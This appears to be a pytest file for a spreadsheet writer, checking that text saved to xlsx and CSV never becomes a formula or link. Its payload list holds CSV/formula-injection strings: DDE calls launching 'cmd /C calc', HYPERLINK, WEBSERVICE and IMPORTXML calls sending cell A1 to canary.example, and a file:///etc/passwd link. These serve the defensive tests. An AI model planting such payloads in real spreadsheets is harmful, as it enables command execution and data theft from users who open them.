"""Writing: what comes back is what was written, and nothing that was typed is ever computed."""

import csv
import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from tests.sheets import whole
from tongxin.sheets.armour import armoured, bared
from tongxin.sheets.frames import sheet_name
from tongxin.sheets.stamps import STAMP_SHEET
from tongxin.sheets.writing import Table, TableColumn, save_xlsx, write_csv, write_xlsx

SIGNS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\u3000=",
    "\u200b=",
]
SIGNS += ["'=", "''=", "%", "|", '"=', ";=", ",="]
PAYLOADS = [
    sign + rest
    for sign in SIGNS
    for rest in (
        "1+1",
        "cmd|' /C calc'!A0",
        'HYPERLINK("http://canary.example/?x="&A1,"点这里")',
        'WEBSERVICE("http://canary.example")',
        'DDE("cmd";"/C calc";"x")',
        'IMPORTXML(CONCAT("http://canary.example/",A1),"//a")',
        '1,"=2+2",\n=3+3',
    )
]  # fmt: skip
PAYLOADS += [
    "{=1+1}",
    "$A$1",
    "#REF!",
    "http://canary.example",
    "mailto:a@canary.example",
    "file:///etc/passwd",
    "1E5",
    "TRUE",
    "2017-3-1",
    "<f>1+1</f>",
    "</t></is></c><c><f>1+1</f></c>",
    "&#61;1+1",
    "_x003D_1+1",
    "]]>",
    "<!--",
    "&amp;",
    "'",
    "''",
    '"',
    '""',
]
TEXTS = [
    "崇川区",
    "320681199001011234",
    "000123",
    "1.50",
    "a\nb",
    "a\r\nb\rc",
    " 前后空格 ",
    "\t",
    "_x0041_ _xZZZZ_ _x000D_",
    "\x07\x0b\x1f",
    "𠮷野家 🎉",
    "e\u0301",
    "\u2028\u202e",
    "长" * 32_767,
]


def texts_back(opened, content, name):
    return [row[0] if row else None for row in opened(content, name).sheets[0].rows[1:]]


def table_of(texts):
    return Table("表", (TableColumn("文字"),), [[text] for text in texts])


@pytest.mark.parametrize("write", ["xlsx", "csv"])
def test_every_text_comes_back_as_it_was(opened, write):
    texts = [*PAYLOADS, *TEXTS]
    if write == "csv":
        texts = [text for text in texts if "\x07" not in text]
    table = table_of([*texts, "末"])
    content = write_xlsx([table]) if write == "xlsx" else write_csv(table)

    assert texts_back(opened, content, f"表.{write}") == [*texts, "末"]


def test_every_value_of_a_workbook_comes_back_as_it_was(opened):
    values = [
        Decimal("0.1"),
        Decimal("-1234567890.12"),
        Decimal(123456789012345),
        Decimal("1E-10"),
        Decimal(0),
        dt.date(2020, 2, 29),
        dt.date(1900, 3, 1),
        dt.date(9999, 12, 31),
        dt.datetime.fromisoformat("2017-03-01T08:30:15"),
        dt.datetime.fromisoformat("1999-12-31T23:59:59.500"),
        True,
        False,
        None,
        "字",
        12,
    ]
    columns = tuple(TableColumn(str(number)) for number in range(len(values)))

    (_titles, row) = opened(write_xlsx([Table("表", columns, [values])])).sheets[0].rows

    assert list(row) == values
    assert [type(value) for value in row[:-1]] == [type(value) for value in values[:-1]]


@pytest.mark.parametrize(
    ("value", "back"),
    [
        (Decimal("1234567890123456.78"), "1234567890123456.78"),
        (1234567890123456789, "1234567890123456789"),
        (Decimal("NaN"), "NaN"),
        (float("inf"), "inf"),
        (dt.date(1900, 2, 28), "1900-02-28"),
        (dt.date(1, 1, 1), "0001-01-01"),
        ("字" * 40_000, "字" * 32_766 + "…"),
        ("\ud800", "\ufffd"),
        ("", None),
    ],
)
def test_what_a_workbook_cannot_hold_is_written_as_text(opened, value, back):
    rows = opened(
        write_xlsx([Table("表", (TableColumn("值"), TableColumn("末")), [[value, "末"]])])
    )

    assert rows.sheets[0].rows[1] == (back, "末")


def test_a_moment_is_given_as_the_clock_shows_it():
    moment = dt.datetime(2017, 3, 1, tzinfo=dt.UTC)

    with pytest.raises(ValueError, match="zone"):
        write_xlsx([table_of([moment])])


def test_no_cell_of_a_workbook_is_a_formula_or_a_link():
    content = write_xlsx([table_of(PAYLOADS)], stamp={"=1+1": "=2+2"})
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        markup = {name: package.read(name).decode() for name in package.namelist()}

    assert not any(re.search(r"<f[ >]|<hyperlink|ddeLink|externalLink", m) for m in markup.values())
    assert not any("TargetMode" in text for text in markup.values())
    for sheet in openpyxl.load_workbook(io.BytesIO(content)):
        for row in sheet.iter_rows():
            assert {cell.data_type for cell in row} <= {"s", "n", "inlineStr"}
            assert {type(cell.value) for cell in row} <= {str, type(None)}


def test_a_workbook_written_without_care_would_be_seen():
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "=1+1"
    out = io.BytesIO()
    workbook.save(out)
    with zipfile.ZipFile(out) as package:
        assert re.search(r"<f[ >]", package.read("xl/worksheets/sheet1.xml").decode())


FORMULA_IN_A_CSV = re.compile(r"[\s'\u200b\u3000]*[=+\-@|%＝＋－＠]|[\t\r\n]")


def test_no_field_of_a_csv_begins_as_a_formula():
    written = write_csv(table_of(PAYLOADS)).decode("utf-8-sig")
    fields = [row[0] for row in csv.reader(io.StringIO(written, newline=""))][1:]

    assert len(fields) == len(PAYLOADS)
    for payload, field in zip(PAYLOADS, fields, strict=True):
        assert field in {payload, f"'{payload}"}
        assert not FORMULA_IN_A_CSV.match(field) or field.startswith("'")
    assert sum(field.startswith("'") for field in fields) > 100


def test_a_title_is_guarded_too():
    assert write_csv(Table("表", (TableColumn("=1+1"),))).decode("utf-8-sig") == '"\'=1+1"\r\n'


@pytest.mark.parametrize("text", [*PAYLOADS, *TEXTS, "", "'tis", "'a'=", "'=", "'" * 9 + "="])
def test_the_guard_is_taken_off_again(text):
    assert bared(armoured(text)) == text


def test_numbers_and_days_of_a_csv_need_no_guard():
    columns = tuple(TableColumn(str(number)) for number in range(5))
    row = [Decimal("-5.50"), dt.date(2017, 3, 1), None, True, Decimal("1E+2")]

    written = write_csv(Table("表", columns, [row])).decode("utf-8-sig")

    assert written.splitlines()[1] == '"-5.50","2017-03-01","","TRUE","100"'


def test_a_template_offers_lists_and_notes_and_says_what_is_required():
    workbook = openpyxl.load_workbook(io.BytesIO(whole.ours()))
    sheet, hidden = workbook["组织"], workbook[STAMP_SHEET]
    (rule,) = sheet.data_validations.dataValidation

    assert (sheet["A1"].value, sheet["A3"].value) == ("2017 年组织登记", "名称")
    assert sheet["A3"].comment.text == "必填\n按登记证书填写全称"
    assert sheet["B3"].comment is None
    assert (rule.type, str(rule.sqref)) == ("list", "F4:F20001")
    assert rule.formula1 == f"{STAMP_SHEET}!$D$1:$D$3"
    assert [hidden[f"D{row}"].value for row in (1, 2, 3)] == [
        "社会团体",
        "民办非企业单位",
        "基金会",
    ]
    assert hidden.sheet_state == "veryHidden"
    assert (sheet.freeze_panes, sheet["B9"].number_format) == ("A4", "General")
    assert sheet.column_dimensions["B"].width > 20
    assert (sheet["B4"].number_format, sheet["D4"].number_format) == ("@", "#,##0.00")


def test_a_long_list_and_choices_with_commas_fit():
    choices = tuple(f"第 {number} 项，甲, 乙" for number in range(500))
    columns = (TableColumn("甲", choices=choices), TableColumn("乙", choices=("=1+1", "x")))

    workbook = openpyxl.load_workbook(io.BytesIO(write_xlsx([Table("表", columns)])))

    rules = workbook["表"].data_validations.dataValidation
    assert [rule.formula1 for rule in rules] == [
        f"{STAMP_SHEET}!$D$1:$D$500",
        f"{STAMP_SHEET}!$E$1:$E$2",
    ]


def test_an_example_looks_unlike_the_rows(opened):
    table = Table("表", (TableColumn("甲"),), [["示例"], ["真的"]], head=("标题",), example=True)
    content = write_xlsx([table])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active

    assert (table.header_row, table.first_row) == (1, 2)
    assert (sheet["A3"].font.italic, sheet["A4"].font.italic) == (True, False)
    assert opened(content).sheets[0].rows[2:] == (("示例",), ("真的",))


def test_rows_are_taken_one_by_one(tmp_path):
    asked = []

    def rows():
        for number in range(5_000):
            asked.append(number)
            yield [number]

    with (tmp_path / "a.xlsx").open("wb") as into:
        save_xlsx(into, [Table("表", (TableColumn("数", "number"),), rows())])

    assert len(asked) == 5_000
    assert openpyxl.load_workbook(tmp_path / "a.xlsx").active.max_row == 5_001


def test_names_of_sheets_are_made_fit_and_kept_apart(opened):
    tables = [
        Table(name, (TableColumn("甲"),)) for name in ("a/b", "A_B", "", "长" * 40, "长" * 50)
    ]

    names = [sheet.name for sheet in opened(write_xlsx(tables)).sheets]

    assert names == ["a_b", "A_B (2)", "Sheet", "长" * 31, "长" * 27 + " (2)"]
    assert sheet_name(STAMP_SHEET) != STAMP_SHEET


def test_a_column_more_than_the_row_and_a_value_more_than_the_columns(opened):
    table = Table("表", (TableColumn("甲"), TableColumn("乙")), [["1"], ["1", "2", "3"]])

    assert opened(write_xlsx([table])).sheets[0].rows[1:] == (("1",), ("1", "2"))


def test_the_same_table_gives_the_same_workbook_however_many_were_made_before():
    def looks():
        made = write_xlsx([Table("表", (TableColumn("名称"),), [["甲"]])])
        with zipfile.ZipFile(io.BytesIO(made)) as packed:
            return packed.read("xl/styles.xml")

    assert looks() == looks()
